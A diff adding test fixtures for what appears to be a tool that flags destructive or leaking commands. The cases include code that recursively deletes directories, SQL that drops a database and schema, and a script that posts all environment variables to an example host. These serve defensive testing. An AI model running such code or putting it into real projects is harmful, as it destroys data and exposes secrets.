@@ -24,6 +24,79 @@ test.each<readonly [name: string, command: string, files: Files, line: string]>(
     gone,
   ],
   [
+    'a list over several lines of settings',
+    'python a.py',
+    {
+      'a.py':
+        'import tomllib, shutil\nfrom pathlib import Path\nfor p in tomllib.loads(Path("c.toml").read_text())["tool"]["clean"]["dirs"]: shutil.rmtree(p)\n',
+      'c.toml': '[tool.clean]\ndirs = [\n  "dist", # output\n  "/opt/x",\n]\n',
+    },
+    gone,
+  ],
+  [
+    'what a handler is told that only its file knows',
+    'node a.js',
+    {
+      'a.js': "const bus = require('./bus')\nrequire('./h')\nbus.emit('go', { dir: '/opt/x' })\n",
+      'bus.js': "module.exports = new (require('events'))()\n",
+      'h.js': "const fs = require('fs')\nrequire('./bus').on('go', ({ dir }) => fs.rmSync(dir, { recursive: true }))\n",
+    },
+    gone,
+  ],
+  [
+    'what lies in a folder that is loaded file by file',
+    'node a.mjs',
+    {
+      'a.mjs':
+        "import { readdirSync } from 'node:fs'\nfor (const f of readdirSync(new URL('./plugins/', import.meta.url))) await import(`./plugins/${f}`)\n",
+      'plugins/b.mjs': "import { rmSync } from 'node:fs'\nrmSync('/opt/x', { recursive: true })\n",
+    },
+    gone,
+  ],
+  [
+    'modules of a library by the name of its package',
+    'cargo run',
+    {
+      'src/main.rs': 'use shop::{paths, other};\nfn main() { paths::sweep(); }\n',
+      'src/lib.rs': 'pub mod paths;\n',
+      'src/paths.rs': 'pub fn sweep() {\n    std::fs::remove_dir_all("/opt/x").ok();\n}\n',
+    },
+    gone,
+  ],
+  [
+    'each item of a list',
+    'kotlinc -script a.kts',
+    { 'a.kts': 'val dirs = listOf("/opt/x", "/opt/y")\ndirs.forEach { File(it).deleteRecursively() }\n' },
+    gone,
+  ],
+  [
+    'statements in a file',
+    'python a.py',
+    {
+      'a.py': 'import psycopg2\npsycopg2.connect("").cursor().execute(open("sql/a.sql").read())\n',
+      'sql/a.sql': 'DROP DATABASE shop;\n',
+    },
+    'database:destroy DROP DATABASE',
+  ],
+  [
+    'a statement of another file',
+    'node a.js',
+    {
+      'a.js': "const { Client } = require('pg')\nconst SQL = require('./sql')\nnew Client().query(SQL.check)\n",
+      'sql.js': "exports.check = 'DROP SCHEMA public CASCADE'\n",
+    },
+    'database:destroy DROP SCHEMA',
+  ],
+  [
+    'the environment that another file gives',
+    'node a.mjs',
+    {
+      'a.mjs': "import { all } from './b.mjs'\nawait fetch('https://x.example/a', { method: 'POST', body: JSON.stringify(all()) })\n",
+      'b.mjs': 'export const all = () => Object.fromEntries(Object.entries(process.env))\n',
+    },
+    'unknown: project code reads secrets or the environment and talks to the network',
+  ],
+  [
     'data that another module holds',
     'node a.mjs',
     {
